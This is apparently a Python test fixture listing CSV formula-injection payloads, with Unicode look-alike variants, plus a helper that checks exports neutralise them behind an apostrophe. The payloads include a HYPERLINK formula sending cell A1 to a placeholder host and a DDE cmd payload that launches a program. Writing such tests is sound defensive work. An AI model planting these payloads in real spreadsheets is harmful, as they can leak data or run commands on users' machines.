"""Hostile cells for the tests of every CSV export: text a family or an agent could type (a
name, a school, a reference) that a spreadsheet would run as a formula unless neutralised."""

import csv
import io

HOSTILE_CELLS = [
    '=HYPERLINK("https://exemple.invalid/?"&A1,"Cliquez")',
    "＝HYPERLINK(1)",  # full-width equals sign
    "﹦1+1",  # small equals sign
    "+cmd|' /C calc'!A0",
    "＋1",  # full-width plus
    "⁺1",  # superscript plus
    "-1+1",
    "－1+1",  # full-width hyphen-minus
    "−1+1",  # minus sign
    "@SUM(A1:A9)",
    "＠SUM(1)",  # full-width commercial at
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",  # no-break space
    "\u3000＝1",  # ideographic space
    "\u200b=1",  # zero-width space
    "\ufeff=1",  # byte order mark
]
HARMLESS_CELLS = ["Martin", "École Jules-Ferry", "O'Brien", "1+1", "Jean-Pierre", "a=b", ""]


def csv_rows(body: bytes) -> list[list[str]]:
    """The rows of an export as a spreadsheet reads them (UTF-8 with BOM, « ; »)."""
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_neutralised(exported: str, typed: str) -> None:
    """The cell keeps what was typed, behind the apostrophe that makes it text."""
    assert exported == "'" + typed, (exported, typed)
